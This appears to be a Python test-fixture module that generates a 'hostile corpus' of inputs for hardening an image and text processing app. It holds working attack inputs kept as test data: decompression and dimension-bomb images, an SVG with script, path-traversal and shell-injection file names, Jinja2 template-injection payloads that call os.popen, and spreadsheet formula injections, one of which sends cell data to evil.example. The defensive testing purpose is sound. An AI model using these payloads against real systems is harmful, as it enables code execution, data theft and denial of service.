"""The hostile corpus, generated: every file and value is built here by code, never committed.

Each builder returns the bytes (or text) a careless or malicious source could hand the
studio. Bombs are small: a header that claims huge dimensions, or a compressed chunk that
inflates to tens of megabytes, never gigabytes of real data.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from PIL import Image


def _noise(size: tuple[int, int] = (64, 48)) -> Image.Image:
    rnd = random.Random(size[0] * 7 + size[1])
    return Image.frombytes("RGB", size, rnd.randbytes(size[0] * size[1] * 3))


def encoded(fmt: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """A real, small, valid image in ``fmt`` (JPEG, PNG, WEBP, GIF)."""
    out = io.BytesIO()
    _noise(size).save(out, format=fmt)
    return out.getvalue()


def truncated(fmt: str) -> bytes:
    """A valid image cut off in the middle of its pixel data."""
    raw = encoded(fmt, (120, 90))
    return raw[: len(raw) // 2]


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (struct.pack(">I", len(payload)) + kind + payload
            + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of ~70 bytes whose header claims ``width`` x ``height`` pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
            + png_chunk(b"IDAT", zlib.compress(b"\x00" * 16)) + png_chunk(b"IEND", b""))


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header (SOF0) is patched to claim other dimensions."""
    raw = bytearray(encoded("JPEG", (16, 16)))
    sof = raw.index(b"\xff\xc0")
    raw[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(raw)


def gif_claiming(width: int, height: int) -> bytes:
    """A real GIF whose logical screen and first frame claim other dimensions."""
    raw = bytearray(encoded("GIF", (16, 16)))
    raw[6:10] = struct.pack("<HH", width, height)
    frame = raw.index(b"\x2c")                       # image descriptor
    raw[frame + 5:frame + 9] = struct.pack("<HH", width, height)
    return bytes(raw)


def webp_claiming(width: int, height: int) -> bytes:
    """A VP8X WebP whose canvas claims other dimensions (up to 16384 each way)."""
    inner = encoded("WEBP", (16, 16))
    vp8 = inner[12:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + \
        (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


def png_text_bomb(inflated: int = 64 * 1024 * 1024) -> bytes:
    """A small, valid PNG carrying a zTXt chunk that inflates to ``inflated`` bytes."""
    deflate = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    packed = b"".join(deflate.compress(block) for _ in range(inflated // len(block)))
    packed += deflate.flush()
    raw = encoded("PNG", (16, 16))
    iend = raw.rindex(b"IEND") - 4
    return raw[:iend] + png_chunk(b"zTXt", b"Comment\x00\x00" + packed) + raw[iend:]


HTML_PAGE = b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>x</body></html>"
SVG_IMAGE = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
             b'height="10"><script>alert(document.cookie)</script></svg>')


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", encoded("JPEG"))
    return out.getvalue()


# -- text ---------------------------------------------------------------------------------

TEN_MB = b"She walked again. " * (10 * 1024 * 1024 // 18 + 1)
NUL_TEXT = b"Rosa walked again.\x00\x00\x00 Then she ran."
RTL_EMOJI = "Rosa 👩🏽‍🦯 walks again: שלום Rosa، مرحبا بك 🎉 (טלפון)"
BIDI_OVERRIDE = "Rosa walks again \u202egnp.exe\u202c"

# Names a file can really have on Linux; none may escape the chosen folder or run anything.
HOSTILE_FILE_NAMES = {
    "dot-dot": "..photo..png",
    "path-escape": "../../../../etc/cron.d/photo.png",   # as a name handed to the workflow
    "cr-lf": "photo\r\nstudio: forged line.png",
    "shell": "$(touch PWNED); `touch PWNED2` | & > x.png",
}

BAD_DATES = ("2026-02-30", "2026-13-01", "0000-01-01")

# Jinja2 payloads that would reach Python internals if a value were ever used as template
# source (https://jinja.palletsprojects.com/en/stable/sandbox/ shows why the sandbox exists).
TEMPLATE_PAYLOADS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ '{0.__class__.__mro__}'.format('') }}",
    "{{ 'a'.format_map({}) }}{{ config }}{{ self.__init__.__globals__ }}",
    "{% for x in range(99999999) %}{% endfor %}{{ 7*7 }}",
)

# Cells a spreadsheet would run as a formula (OWASP CSV injection); the tab and CR forms
# hide the trigger behind whitespace some spreadsheets skip.
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")

# Text that tries to add lines or properties to an iCalendar file.
ICS_INJECTION = ("Walk\r\nATTENDEE:mailto:info@example.org\r\nBEGIN:VALARM",
                 "a;b,c:d\\e\\n\\;\\,", "Run\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged")
